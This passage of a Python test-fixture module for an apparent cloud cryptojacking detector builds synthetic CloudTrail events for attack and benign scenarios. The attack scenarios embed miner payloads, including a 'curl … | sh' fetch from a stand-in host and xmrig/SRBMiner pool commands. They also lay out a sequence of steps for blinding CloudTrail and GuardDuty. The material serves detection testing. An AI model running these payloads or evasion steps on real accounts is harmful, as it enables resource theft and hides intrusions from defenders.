"""The seed campaigns, step by step, as realistic CloudTrail records inside EventBridge events, plus benign
scenarios that must stay quiet. Shared by the drill, the tests and the hunt fixtures.

Field names follow real CloudTrail records: requestParameters in the service's own casing
(instancesSet.items[].minCount for RunInstances, CreateLaunchTemplateRequest.LaunchTemplateData for launch
templates), Lambda event names with their API-version suffixes, GuardDuty findings in `detail`. User data is
`<sensitiveDataRemoved>`, as CloudTrail writes it; what it hid is kept aside (Scenario.hidden_user_data) for
the drill and the tests to put into the emulators, where enrichment reads it back as it would from an account."""

from __future__ import annotations

import base64
import itertools
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from cryptoguard.indicators import REDACTED

ACCOUNT = "111122223333"
ALLOWED_REGIONS = ("ap-northeast-1", "us-east-1")
ATTACKER_IP = "13.208.251.175"  # seed 004
BOTO3_UA = "Boto3/1.34.49 md/Botocore#1.34.49 ua/2.0 os/linux#6.2.0-1017-aws lang/python#3.10.12 Botocore/1.34.49"
STOLEN_USER = {
    "type": "IAMUser",
    "principalId": "AIDAEXAMPLESTOLEN",
    "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-deploy",
    "accountId": ACCOUNT,
    "accessKeyId": "AKIAEXAMPLESTOLEN1",
    "userName": "ci-deploy",
}
COMPROMISED_ROLE = {
    "type": "AssumedRole",
    "principalId": "AROAEXAMPLE:i-0abc",
    "accountId": ACCOUNT,
    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/web-app-instance/i-0abc",
    "accessKeyId": "ASIAEXAMPLEWEB",
    "sessionContext": {"sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/web-app-instance"}},
}
PIPELINE_ROLE = {
    "type": "AssumedRole",
    "principalId": "AROAPIPELINE:deploy",
    "accountId": ACCOUNT,
    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/github-deploy/deploy-42",
    "accessKeyId": "ASIAPIPELINE",
    "sessionContext": {"sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/github-deploy"}},
}
ADMIN_ROLE = {
    "type": "AssumedRole",
    "principalId": "AROAADMIN:alice",
    "accountId": ACCOUNT,
    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSReservedSSO_AdministratorAccess_abc/alice",
    "accessKeyId": "ASIAADMIN",
    "sessionContext": {
        "sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/AWSReservedSSO_AdministratorAccess_abc"}
    },
}
AUTOSCALING_ROLE = {
    "type": "AssumedRole",
    "principalId": "AROAASG:AutoScaling",
    "accountId": ACCOUNT,
    "invokedBy": "autoscaling.amazonaws.com",
    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSServiceRoleForAutoScaling/AutoScaling",
    "sessionContext": {
        "sessionIssuer": {
            "type": "Role",
            "arn": f"arn:aws:iam::{ACCOUNT}:role/aws-service-role/"
            "autoscaling.amazonaws.com/AWSServiceRoleForAutoScaling",
        }
    },
}

SEED_002_MINER = (
    "#!/bin/bash\ncd /tmp && wget -q https://example.invalid/run.sh && chmod +x run.sh\n"
    "./SRBMiner-MULTI --algorithm randomvirel --pool asia.rplant.xyz:17155 "
    "--wallet x --cpu-threads $(nproc --all)\n"
)
SEED_004_MESON = (
    "wget 'https://staticassets.meson.network/public/meson_cdn/v3.1.20/meson_cdn-linux-amd64.tar.gz' "
    "&& tar -zxf meson_cdn-linux-amd64.tar.gz && cd ./meson_cdn-linux-amd64 && sudo ./service install "
    "meson_cdn\nsudo ./meson_cdn config set --token=**** --https_port=443 --cache.size=30\n"
    "sudo ./service start meson_cdn"
)
BENIGN_USER_DATA = "#!/bin/bash\nyum install -y amazon-cloudwatch-agent nginx\nsystemctl enable --now nginx\n"


# What the accounts hold behind CloudTrail's redaction: user data, by the event id of the record that hid it.
HIDDEN_USER_DATA: dict[str, str] = {}


def hidden(event: dict, user_data: str) -> dict:
    """The event as CloudTrail writes it (user data redacted), with the user data noted for the emulators."""
    HIDDEN_USER_DATA[event["detail"]["eventID"]] = user_data
    return event


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


class Clock:
    """Event times that advance a few seconds per call, from a fixed start, so scenarios are repeatable."""

    def __init__(self, start: str, step_seconds: int = 3) -> None:
        self.now = datetime.fromisoformat(start.replace("Z", "+00:00")).astimezone(UTC)
        self.step = timedelta(seconds=step_seconds)

    def tick(self) -> str:
        self.now += self.step
        return self.now.strftime("%Y-%m-%dT%H:%M:%SZ")


_ids = itertools.count(1)


def _event_id(seed: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"cryptoguard/{seed}/{next(_ids)}"))


def cloudtrail(
    clock: Clock,
    name: str,
    service: str,
    params: dict | None = None,
    *,
    region: str,
    identity: dict,
    error: str | None = None,
    response: dict | None = None,
    read_only: bool = False,
    ip: str = ATTACKER_IP,
    agent: str = BOTO3_UA,
) -> dict:
    record = {
        "eventVersion": "1.09",
        "userIdentity": identity,
        "eventTime": clock.tick(),
        "eventSource": f"{service}.amazonaws.com",
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": identity.get("invokedBy") or ip,
        "userAgent": identity.get("invokedBy") or agent,
        "requestParameters": params or {},
        "responseElements": response,
        "requestID": str(uuid.uuid4()),
        "eventID": _event_id(name),
        "readOnly": read_only,
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": ACCOUNT,
        "eventCategory": "Management",
    }
    if error:
        record["errorCode"] = error
        record["errorMessage"] = (
            "Request would have succeeded, but DryRun flag is set."
            if error == "Client.DryRunOperation"
            else "You are not authorized to perform this operation."
        )
    return record


def eventbridge(record: dict) -> dict:
    """The event EventBridge puts on the default bus of the record's region."""
    return {
        "version": "0",
        "id": str(uuid.uuid4()),
        "detail-type": "AWS API Call via CloudTrail",
        "source": "aws." + record["eventSource"].split(".")[0],
        "account": record["recipientAccountId"],
        "time": record["eventTime"],
        "region": record["awsRegion"],
        "resources": [],
        "detail": record,
    }


def guardduty_finding(
    clock: Clock, finding_type: str, severity: float, region: str, title: str, resource_type: str = "Instance"
) -> dict:
    now = clock.tick()
    finding = {
        "schemaVersion": "2.0",
        "accountId": ACCOUNT,
        "region": region,
        "partition": "aws",
        "id": uuid.uuid5(uuid.NAMESPACE_URL, f"gd/{finding_type}/{now}").hex,
        "type": finding_type,
        "severity": severity,
        "title": title,
        "description": title,
        "createdAt": now,
        "updatedAt": now,
        "resource": {
            "resourceType": resource_type,
            "instanceDetails": {"instanceId": "i-0miner00000000001", "instanceType": "c5.4xlarge"},
        },
        "service": {"serviceName": "guardduty", "count": 1, "action": {"actionType": "DNS_REQUEST"}},
    }
    return {
        "version": "0",
        "id": str(uuid.uuid4()),
        "detail-type": "GuardDuty Finding",
        "source": "aws.guardduty",
        "account": ACCOUNT,
        "time": now,
        "region": region,
        "resources": [],
        "detail": finding,
    }


@dataclass
class Step:
    name: str
    seed_ref: str
    events: list[dict]
    expect: tuple[str, ...] = ()  # rule ids this step must raise; empty for context steps


@dataclass
class Scenario:
    name: str
    title: str
    seed: str
    malicious: bool
    steps: list[Step] = field(default_factory=list)

    def events(self) -> list[dict]:
        return [e for step in self.steps for e in step.events]

    def hidden_user_data(self) -> dict[str, str]:
        """User data this scenario's records redacted, by event id."""
        ids = (e["detail"].get("eventID") for e in self.events())
        return {i: HIDDEN_USER_DATA[i] for i in ids if i in HIDDEN_USER_DATA}

    def cloudtrail_records(self) -> list[dict]:
        return [e["detail"] for e in self.events() if e["detail-type"] == "AWS API Call via CloudTrail"]


def _run_instances(
    clock: Clock, region: str, identity: dict, count: int, instance_type: str, user_data: str | None = None, **kw: Any
) -> dict:
    params: dict[str, Any] = {
        "instancesSet": {"items": [{"imageId": "ami-0a2e7efb4257c0907", "minCount": count, "maxCount": count}]},
        "instanceType": instance_type,
        "monitoring": {"enabled": False},
    }
    if user_data is not None:
        params["userData"] = REDACTED
    if "tagSpecificationSet" in kw:
        params["tagSpecificationSet"] = kw.pop("tagSpecificationSet")
    error = kw.pop("error", None)
    response = (
        None
        if error
        else {
            "instancesSet": {
                "items": [
                    {"instanceId": f"i-{uuid.uuid4().hex[:17]}", "instanceType": instance_type}
                    for _ in range(min(count, 3))
                ]
            }
        }
    )
    event = eventbridge(
        cloudtrail(
            clock, "RunInstances", "ec2", params, region=region, identity=identity, error=error, response=response, **kw
        )
    )
    return hidden(event, user_data) if user_data is not None and not error else event


def nov2025_campaign() -> Scenario:
    """Seed 002: compromised IAM user -> quotas and DryRun -> ECS clusters and 16-vCPU tasks -> launch
    templates and ASGs of max 999 -> RunInstances -> termination protection -> public Lambda URL -> IAM user."""
    c = Clock("2025-11-02T10:00:00Z")
    r = "us-east-1"
    u = STOLEN_USER

    def ct(name: str, service: str, params: dict | None = None, **kw: Any) -> dict:
        return eventbridge(cloudtrail(c, name, service, params, region=kw.pop("region", r), identity=u, **kw))

    quota = {"serviceCode": "ec2", "quotaCode": "L-1216C47A"}
    task = {
        "family": "secret-user",
        "requiresCompatibilities": ["FARGATE"],
        "networkMode": "awsvpc",
        "cpu": "16384",
        "memory": "32768",
        "containerDefinitions": [
            {
                "name": "secret",
                "image": "yenik65958/secret:user",
                "cpu": 0,
                "essential": True,
                "command": ["sh", "run.sh"],
            }
        ],
    }
    template = {
        "CreateLaunchTemplateRequest": {
            "LaunchTemplateName": "lt-g1",
            "LaunchTemplateData": {
                "ImageId": "ami-0a2e7efb4257c0907",
                "InstanceType": "g4dn.xlarge",
                "UserData": REDACTED,
            },
        }
    }

    def asg(name: str, types: list[str], on_demand: int) -> dict:
        return {
            "autoScalingGroupName": name,
            "minSize": 20,
            "maxSize": 999,
            "desiredCapacity": 20,
            "mixedInstancesPolicy": {
                "launchTemplate": {
                    "launchTemplateSpecification": {"launchTemplateName": "lt-g1"},
                    "overrides": [{"instanceType": t} for t in types],
                },
                "instancesDistribution": {
                    "onDemandPercentageAboveBaseCapacity": on_demand,
                    "spotAllocationStrategy": "capacity-optimized",
                },
            },
        }

    s = Scenario("nov2025_ecs_ec2", "Nov-2025 EC2/ECS campaign with termination protection", "002", True)
    s.steps += [
        Step(
            "GetServiceQuota x3 (EC2 vCPU quotas)",
            "002: recon, GetServiceQuota",
            [ct("GetServiceQuota", "servicequotas", quota, read_only=True) for _ in range(3)],
            ("CG-RECON-002",),
        ),
        Step(
            "RunInstances with DryRun x2",
            "002: recon, RunInstances DryRun",
            [_run_instances(c, r, u, 1, "p3.2xlarge", error="Client.DryRunOperation") for _ in range(2)],
            ("CG-RECON-001",),
        ),
        Step(
            "CreateCluster x6",
            "002: dozens of ECS clusters",
            [ct("CreateCluster", "ecs", {"clusterName": f"secret-{i}"}) for i in range(6)],
            ("CG-ECS-005",),
        ),
        Step(
            "RegisterTaskDefinition 16 vCPU, yenik65958/secret:user",
            "002: RegisterTaskDefinition cpu 16384",
            [ct("RegisterTaskDefinition", "ecs", task)],
            ("CG-ECS-001", "CG-ECS-002", "CG-CHAIN-001"),
        ),
        Step(
            "CreateService desiredCount 10 on Fargate",
            "002: CreateService desired 10",
            [
                ct(
                    "CreateService",
                    "ecs",
                    {
                        "cluster": "secret-0",
                        "serviceName": "secret",
                        "desiredCount": 10,
                        "taskDefinition": "secret-user:1",
                        "launchType": "FARGATE",
                    },
                )
            ],
            ("CG-ECS-004",),
        ),
        Step(
            "CreateLaunchTemplate with miner user data",
            "002: CreateLaunchTemplate UserData",
            [hidden(ct("CreateLaunchTemplate", "ec2", template), SEED_002_MINER)],
            ("CG-PAYLOAD-001", "CG-LAUNCH-002"),
        ),
        Step(
            "CreateAutoScalingGroup SPOT-...-G1 max 999 (GPU spot)",
            "002: spot ASG g4dn/g5/p3/p4d/inf1",
            [
                ct(
                    "CreateAutoScalingGroup",
                    "autoscaling",
                    asg(
                        "SPOT-us-east-1-G1-a1b2",
                        ["g4dn.xlarge", "g5.xlarge", "p3.2xlarge", "p4d.24xlarge", "inf1.xlarge"],
                        0,
                    ),
                )
            ],
            ("CG-ASG-001", "CG-LAUNCH-002"),
        ),
        Step(
            "CreateAutoScalingGroup OD-...-G1 max 999 (compute on-demand)",
            "002: on-demand ASG c5/m5/r5",
            [
                ct(
                    "CreateAutoScalingGroup",
                    "autoscaling",
                    asg("OD-us-east-1-G1-c3d4", ["c5.4xlarge", "c6i.4xlarge", "r5.4xlarge", "m5.4xlarge"], 100),
                )
            ],
            ("CG-ASG-001",),
        ),
        Step(
            "RunInstances x20 c5.4xlarge (remaining quota)",
            "002: RunInstances after ASG quota",
            [_run_instances(c, r, u, 20, "c5.4xlarge", SEED_002_MINER)],
            ("CG-LAUNCH-001", "CG-PAYLOAD-001", "CG-CHAIN-001"),
        ),
        Step(
            "ModifyInstanceAttribute disableApiTermination=true x6",
            "002: termination protection",
            [
                ct(
                    "ModifyInstanceAttribute",
                    "ec2",
                    {"instanceId": f"i-0miner0000000000{i}", "disableApiTermination": {"value": True}},
                )
                for i in range(6)
            ],
            ("CG-PERSIST-001",),
        ),
        Step(
            "CreateFunctionUrlConfig AuthType NONE",
            "002: public Lambda function URL",
            [
                ct(
                    "CreateFunctionUrlConfig20211031",
                    "lambda",
                    {"functionName": "backup-sync", "authType": "NONE"},
                    response={"functionUrl": "https://abc.lambda-url.us-east-1.on.aws/", "authType": "NONE"},
                )
            ],
            ("CG-LAMBDA-001",),
        ),
        Step(
            "AddPermission principal *",
            "002: AddPermission for everyone",
            [
                ct(
                    "AddPermission20150331v2",
                    "lambda",
                    {
                        "functionName": "backup-sync",
                        "statementId": "url",
                        "action": "lambda:InvokeFunctionUrl",
                        "principal": "*",
                        "functionUrlAuthType": "NONE",
                    },
                )
            ],
            ("CG-LAMBDA-002",),
        ),
        Step(
            "CreateUser, AttachUserPolicy SES, CreateAccessKey, CreateLoginProfile",
            "002: IAM user persistence",
            [
                ct("CreateUser", "iam", {"userName": "user-x1x2x3x4"}),
                ct(
                    "AttachUserPolicy",
                    "iam",
                    {"userName": "user-x1x2x3x4", "policyArn": "arn:aws:iam::aws:policy/AmazonSESFullAccess"},
                ),
                ct("CreateAccessKey", "iam", {"userName": "user-x1x2x3x4"}),
                ct("CreateLoginProfile", "iam", {"userName": "user-x1x2x3x4", "passwordResetRequired": False}),
            ],
            ("CG-IAM-001",),
        ),
        Step(
            "GuardDuty: Impact:Runtime/CryptoMinerExecuted",
            "002: Runtime Monitoring finding",
            [guardduty_finding(c, "Impact:Runtime/CryptoMinerExecuted", 8.0, r, "Crypto miner executed")],
            ("CG-GD-001",),
        ),
        Step(
            "GuardDuty: AttackSequence:EC2/CompromisedInstanceGroup",
            "002: Extended Threat Detection",
            [
                guardduty_finding(
                    c,
                    "AttackSequence:EC2/CompromisedInstanceGroup",
                    9.0,
                    r,
                    "Potential compromised instance group",
                    "Instance",
                )
            ],
            ("CG-GD-001",),
        ),
    ]
    return s


def meson_campaign() -> Scenario:
    """Seed 004: one IP, Boto3, batches of 500 micro instances with meson_cdn user data, region after region;
    public addresses and volumes for bandwidth and storage."""
    c = Clock("2024-02-26T20:33:10Z", step_seconds=20)
    u = COMPROMISED_ROLE
    regions = ["us-west-2", "eu-west-1", "ap-southeast-1", "sa-east-1"]
    s = Scenario("meson_cdn", "Meson CDN: 500 x t2.micro per region, low CPU", "004", True)
    for region in regions:
        s.steps.append(
            Step(
                f"RunInstances minCount 500 t2.micro in {region}",
                "004: 500 micro per region",
                [_run_instances(c, region, u, 500, "t2.micro", SEED_004_MESON)],
                ("CG-LAUNCH-001", "CG-REGION-001", "CG-PAYLOAD-001", "CG-LAUNCH-003"),
            )
        )
    s.steps[2].expect += ("CG-LAUNCH-004",)  # the third region within the window makes it multi-region
    s.steps += [
        Step(
            "AllocateAddress x10",
            "004: public IPv4 addresses ($22,000/month at 6,000 nodes)",
            [
                eventbridge(cloudtrail(c, "AllocateAddress", "ec2", {"domain": "vpc"}, region="us-west-2", identity=u))
                for _ in range(10)
            ],
            ("CG-NET-001",),
        ),
        Step(
            "CreateVolume x20",
            "004: storage for the CDN cache",
            [
                eventbridge(
                    cloudtrail(
                        c,
                        "CreateVolume",
                        "ec2",
                        {"size": 100, "volumeType": "gp3", "availabilityZone": "us-west-2a"},
                        region="us-west-2",
                        identity=u,
                    )
                )
                for _ in range(20)
            ],
            ("CG-STORAGE-001",),
        ),
    ]
    return s


def unused_region_gpu() -> Scenario:
    """Seed 000: leaked keys launch a p3.16xlarge ($24.48/h) in a region the Tokyo-based victim never looks at."""
    c = Clock("2021-12-10T03:00:00Z")
    s = Scenario("unused_region_gpu", "GPU instance in an unused region (leaked access key)", "000", True)
    s.steps += [
        Step(
            "RunInstances p3.16xlarge in sa-east-1",
            "000: p3.16xlarge in an overseas region",
            [_run_instances(c, "sa-east-1", STOLEN_USER, 1, "p3.16xlarge")],
            ("CG-REGION-001", "CG-LAUNCH-002"),
        ),
        Step(
            "GuardDuty: CryptoCurrency:EC2/BitcoinTool.B!DNS",
            "000: GuardDuty BitcoinTool finding",
            [
                guardduty_finding(
                    c, "CryptoCurrency:EC2/BitcoinTool.B!DNS", 8.0, "sa-east-1", "Bitcoin-related domain queried"
                )
            ],
            ("CG-GD-001",),
        ),
    ]
    return s


AWS_QUARANTINE = {"type": "AWSService", "invokedBy": "AWS Internal"}


def blinding_campaign() -> Scenario:
    """The same stolen key, blinding the defences around a GPU fleet: the trail stopped and narrowed, GuardDuty
    switched off and told to archive crypto findings, this project's rule disabled, the allow tag on the
    attacker's instances, a new region enabled, a failed probe there, the account leaving the organisation; an
    Auto Scaling group whose creation was missed launching GPUs; AWS quarantining the leaked key. The request
    shapes follow the CloudTrail examples in AWS's documentation."""
    c = Clock("2025-11-05T04:00:00Z")
    r, u = "us-east-1", STOLEN_USER

    def ct(name: str, service: str, params: dict | None = None, identity: dict = u, **kw: Any) -> dict:
        return eventbridge(cloudtrail(c, name, service, params, region=kw.pop("region", r), identity=identity, **kw))

    trail = f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/org-trail"
    detector = "12abc34d567e8fa901bc2d34e56789f0"
    crypto_only = {"criterion": {"type": {"eq": ["CryptoCurrency:EC2/BitcoinTool.B!DNS"]}}}
    asg_launch = _run_instances(
        c,
        "us-west-2",
        AUTOSCALING_ROLE,
        1,
        "g4dn.12xlarge",
        tagSpecificationSet={
            "items": [
                {
                    "resourceType": "instance",
                    "tags": [{"key": "aws:autoscaling:groupName", "value": "OD-us-west-2-G1-x"}],
                }
            ]
        },
    )
    s = Scenario("blinding_campaign", "Blinding the defences around a GPU fleet", "000", True)
    s.steps += [
        Step(
            "StopLogging + PutEventSelectors without management events",
            "000: the trail stopped and narrowed",
            [
                ct("StopLogging", "cloudtrail", {"name": trail}),
                ct(
                    "PutEventSelectors",
                    "cloudtrail",
                    {
                        "trailName": trail,
                        "eventSelectors": [
                            {"readWriteType": "All", "includeManagementEvents": False, "dataResources": []}
                        ],
                    },
                ),
            ],
            ("CG-TAMPER-001",),
        ),
        Step(
            "GuardDuty UpdateDetector enable=false + archive filter on crypto findings",
            "000: GuardDuty off, crypto findings archived",
            [
                ct("UpdateDetector", "guardduty", {"detectorId": detector, "enable": False}),
                ct(
                    "CreateFilter",
                    "guardduty",
                    {"detectorId": detector, "name": "noise", "action": "ARCHIVE", "findingCriteria": crypto_only},
                ),
            ],
            ("CG-TAMPER-002",),
        ),
        Step(
            "DisableRule on this project's rule",
            "000: the region watch blinded",
            [ct("DisableRule", "events", {"name": "cryptoguard-ec2-launches", "eventBusName": "default"})],
            ("CG-TAMPER-003",),
        ),
        Step(
            "CreateTags cryptoguard:allow=true on the attacker's instances",
            "000: response switched off by tag",
            [
                ct(
                    "CreateTags",
                    "ec2",
                    {
                        "resourcesSet": {"items": [{"resourceId": "i-0a1b2c3d4e5f60718"}]},
                        "tagSet": {"items": [{"key": "cryptoguard:allow", "value": "true"}]},
                    },
                )
            ],
            ("CG-TAMPER-006",),
        ),
        Step(
            "EnableRegion ap-east-1, then a denied RunInstances there",
            "000: a region nobody watches; a failed call is a probe, not HIGH",
            [
                ct("EnableRegion", "account", {"RegionName": "ap-east-1"}),
                _run_instances(c, "ap-east-1", u, 1, "g5.xlarge", error="UnauthorizedOperation"),
            ],
            ("CG-TAMPER-005", "CG-REGION-002"),
        ),
        Step(
            "Auto Scaling launches g4dn.12xlarge for a group created elsewhere",
            "000: GPUs launched by a service-linked role (seed 002's groups)",
            [asg_launch],
            ("CG-LAUNCH-005",),
        ),
        Step(
            "LeaveOrganization",
            "000: out of the organisation's SCPs, trail and GuardDuty",
            [ct("LeaveOrganization", "organizations", None)],
            ("CG-TAMPER-004",),
        ),
        Step(
            "AWS attaches AWSCompromisedKeyQuarantineV3 to the user",
            "000: AWS telling you the key leaked",
            [
                ct(
                    "AttachUserPolicy",
                    "iam",
                    {"userName": "ci-deploy", "policyArn": "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3"},
                    identity=AWS_QUARANTINE,
                    ip="AWS Internal",
                    agent="AWS Internal",
                )
            ],
            ("CG-KEY-001",),
        ),
    ]
    return s


XMRIG_BUILD = (
    "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -sL https://example.invalid/x.sh | sh\n"
    "      - ./xmrig -o stratum+tcp://gulf.moneroocean.stream:10128 -u 4A... --threads $(nproc --all)\n"
)


def beyond_ec2_campaign() -> Scenario:
    """Seed 000 names SageMaker instances and GPU WorkSpaces as mining targets besides EC2: the same stolen key
    rents GPUs through every managed service it can reach, then blinds the trail and GuardDuty. Request fields as
    each service's CloudTrail entries carry them."""
    c = Clock("2025-11-07T02:00:00Z")
    r, u = "us-east-1", STOLEN_USER

    def ct(name: str, service: str, params: dict) -> dict:
        return eventbridge(cloudtrail(c, name, service, params, region=r, identity=u))

    lifecycle = {"notebookInstanceLifecycleConfigName": "on-start", "onStart": [{"content": b64(SEED_002_MINER)}]}
    s = Scenario("beyond_ec2", "GPUs through SageMaker, WorkSpaces and managed clusters, then blinding", "000", True)
    s.steps += [
        Step(
            "SageMaker lifecycle script with a miner + notebook on ml.p3.16xlarge",
            "000: SageMaker GPU notebook instances",
            [
                ct("CreateNotebookInstanceLifecycleConfig", "sagemaker", lifecycle),
                ct(
                    "CreateNotebookInstance",
                    "sagemaker",
                    {
                        "notebookInstanceName": "research",
                        "instanceType": "ml.p3.16xlarge",
                        "roleArn": f"arn:aws:iam::{ACCOUNT}:role/sagemaker-exec",
                        "lifecycleConfigName": "on-start",
                    },
                ),
            ],
            ("CG-PAYLOAD-002", "CG-SAGEMAKER-001"),
        ),
        Step(
            "CreateTrainingJob 8 x ml.p4d.24xlarge",
            "000: SageMaker training on the largest GPUs",
            [
                ct(
                    "CreateTrainingJob",
                    "sagemaker",
                    {
                        "trainingJobName": "bert-finetune-7",
                        "resourceConfig": {"instanceType": "ml.p4d.24xlarge", "instanceCount": 8, "volumeSizeInGB": 50},
                        "stoppingCondition": {"maxRuntimeInSeconds": 432000},
                    },
                )
            ],
            ("CG-SAGEMAKER-001",),
        ),
        Step(
            "CreateWorkspaces x12 GRAPHICS_G4DN",
            "000: GPU WorkSpaces",
            [
                ct(
                    "CreateWorkspaces",
                    "workspaces",
                    {
                        "workspaces": [
                            {
                                "directoryId": "d-906732325d",
                                "userName": f"svc{i:02d}",
                                "bundleId": "wsb-gm4d5tx2v",
                                "workspaceProperties": {"runningMode": "ALWAYS_ON", "computeTypeName": "GRAPHICS_G4DN"},
                            }
                            for i in range(12)
                        ]
                    },
                )
            ],
            ("CG-WORKSPACES-001",),
        ),
        Step(
            "EKS CreateNodegroup g5.12xlarge, maxSize 500",
            "000: GPU nodes behind a cluster",
            [
                ct(
                    "CreateNodegroup",
                    "eks",
                    {
                        "name": "prod",
                        "nodegroupName": "batch-gpu",
                        "instanceTypes": ["g5.12xlarge"],
                        "capacityType": "SPOT",
                        "scalingConfig": {"minSize": 0, "maxSize": 500, "desiredSize": 50},
                    },
                )
            ],
            ("CG-EKS-001",),
        ),
        Step(
            "Batch CreateComputeEnvironment p3, maxvCpus 10,000",
            "000: Batch sized for a fleet",
            [
                ct(
                    "CreateComputeEnvironment",
                    "batch",
                    {
                        "computeEnvironmentName": "render",
                        "type": "MANAGED",
                        "computeResources": {"type": "SPOT", "maxvCpus": 10000, "instanceTypes": ["p3"]},
                    },
                )
            ],
            ("CG-BATCH-001",),
        ),
        Step(
            "EMR RunJobFlow with 40 x g4dn.4xlarge core nodes",
            "000: EMR as a GPU fleet",
            [
                ct(
                    "RunJobFlow",
                    "elasticmapreduce",
                    {
                        "name": "spark-etl",
                        "releaseLabel": "emr-7.2.0",
                        "instances": {
                            "instanceGroups": [
                                {"instanceRole": "MASTER", "instanceType": "m5.xlarge", "instanceCount": 1},
                                {"instanceRole": "CORE", "instanceType": "g4dn.4xlarge", "instanceCount": 40},
                            ]
                        },
                    },
                )
            ],
            ("CG-EMR-001",),
        ),
        Step(
            "CodeBuild StartBuild on BUILD_GENERAL1_2XLARGE with an xmrig buildspec",
            "000: builds as miners",
            [
                ct(
                    "StartBuild",
                    "codebuild",
                    {
                        "projectName": "web",
                        "computeTypeOverride": "BUILD_GENERAL1_2XLARGE",
                        "buildspecOverride": XMRIG_BUILD,
                    },
                )
            ],
            ("CG-CODEBUILD-001", "CG-PAYLOAD-002"),
        ),
        Step(
            "Lightsail CreateInstances x30",
            "000: fixed-price boxes by the dozen",
            [
                ct(
                    "CreateInstances",
                    "lightsail",
                    {
                        "instanceNames": [f"node-{i}" for i in range(30)],
                        "availabilityZone": "us-east-1a",
                        "blueprintId": "ubuntu_22_04",
                        "bundleId": "medium_3_0",
                    },
                )
            ],
            ("CG-LIGHTSAIL-001",),
        ),
        Step(
            "DeleteTrail + GuardDuty DeleteDetector",
            "000: the trail and GuardDuty gone",
            [
                ct("DeleteTrail", "cloudtrail", {"name": f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/org-trail"}),
                ct("DeleteDetector", "guardduty", {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}),
            ],
            ("CG-TAMPER-001", "CG-TAMPER-002"),
        ),
    ]
    return s


def benign_scenarios() -> list[Scenario]:
    c = Clock("2025-11-03T01:00:00Z", step_seconds=30)
    tokyo = "ap-northeast-1"
    p = PIPELINE_ROLE

    def ct(name: str, service: str, params: dict, identity: dict = p, region: str = tokyo, **kw: Any) -> dict:
        return eventbridge(
            cloudtrail(
                c,
                name,
                service,
                params,
                region=region,
                identity=identity,
                ip="140.82.112.3",
                agent="aws-cli/2.17.0",
                **kw,
            )
        )

    deploy = Scenario(
        "deploy_in_allowed_region",
        "A service deploy in Tokyo",
        "-",
        False,
        [
            Step(
                "RunInstances 2 x m5.large",
                "-",
                [
                    _run_instances(
                        c, tokyo, p, 2, "m5.large", BENIGN_USER_DATA, ip="140.82.112.3", agent="aws-cli/2.17.0"
                    )
                ],
            ),
            Step(
                "CreateLaunchTemplate + ASG max 10",
                "-",
                [
                    hidden(
                        ct(
                            "CreateLaunchTemplate",
                            "ec2",
                            {
                                "CreateLaunchTemplateRequest": {
                                    "LaunchTemplateName": "web",
                                    "LaunchTemplateData": {"InstanceType": "m5.large", "UserData": REDACTED},
                                }
                            },
                        ),
                        BENIGN_USER_DATA,
                    ),
                    ct(
                        "CreateAutoScalingGroup",
                        "autoscaling",
                        {"autoScalingGroupName": "web", "minSize": 2, "maxSize": 10, "desiredCapacity": 2},
                    ),
                ],
            ),
            Step(
                "ECS task 1 vCPU from ECR + service of 3",
                "-",
                [
                    ct(
                        "RegisterTaskDefinition",
                        "ecs",
                        {
                            "family": "api",
                            "cpu": "1024",
                            "memory": "2048",
                            "containerDefinitions": [
                                {"name": "api", "image": f"{ACCOUNT}.dkr.ecr.ap-northeast-1.amazonaws.com/api:1.4.2"}
                            ],
                        },
                    ),
                    ct("CreateService", "ecs", {"serviceName": "api", "cluster": "prod", "desiredCount": 3}),
                ],
            ),
            Step(
                "Lambda URL with AWS_IAM + S3 permission",
                "-",
                [
                    ct("CreateFunctionUrlConfig20211031", "lambda", {"functionName": "hook", "authType": "AWS_IAM"}),
                    ct(
                        "AddPermission20150331v2",
                        "lambda",
                        {
                            "functionName": "hook",
                            "principal": "s3.amazonaws.com",
                            "action": "lambda:InvokeFunction",
                            "statementId": "s3",
                        },
                    ),
                ],
            ),
        ],
    )
    scale_out = Scenario(
        "autoscaling_scale_out",
        "Auto Scaling adds instances for a service",
        "-",
        False,
        [
            Step(
                "RunInstances x4 by Auto Scaling (5 calls)",
                "-",
                [_run_instances(c, tokyo, AUTOSCALING_ROLE, 4, "m5.large") for _ in range(5)],
            ),
        ],
    )
    pipeline = Scenario(
        "ci_pipeline",
        "CI pipeline rolling out new task definitions",
        "-",
        False,
        [
            Step(
                "RegisterTaskDefinition x3 + UpdateService desired 4",
                "-",
                [
                    ct(
                        "RegisterTaskDefinition",
                        "ecs",
                        {
                            "family": "worker",
                            "cpu": "2048",
                            "memory": "4096",
                            "containerDefinitions": [
                                {"name": "w", "image": "public.ecr.aws/docker/library/python:3.13"}
                            ],
                        },
                    )
                    for _ in range(3)
                ]
                + [ct("UpdateService", "ecs", {"service": "worker", "desiredCount": 4})],
            ),
            Step(
                "CreateVolume x2 for a build cache",
                "-",
                [ct("CreateVolume", "ec2", {"size": 50, "availabilityZone": "ap-northeast-1a"}) for _ in range(2)],
            ),
        ],
    )
    admin = Scenario(
        "admin_creates_user",
        "An administrator creates one console user",
        "-",
        False,
        [
            Step(
                "CreateUser, CreateLoginProfile, AddUserToGroup",
                "-",
                [
                    ct("CreateUser", "iam", {"userName": "hanako"}, identity=ADMIN_ROLE, region="us-east-1"),
                    ct(
                        "CreateLoginProfile",
                        "iam",
                        {"userName": "hanako", "passwordResetRequired": True},
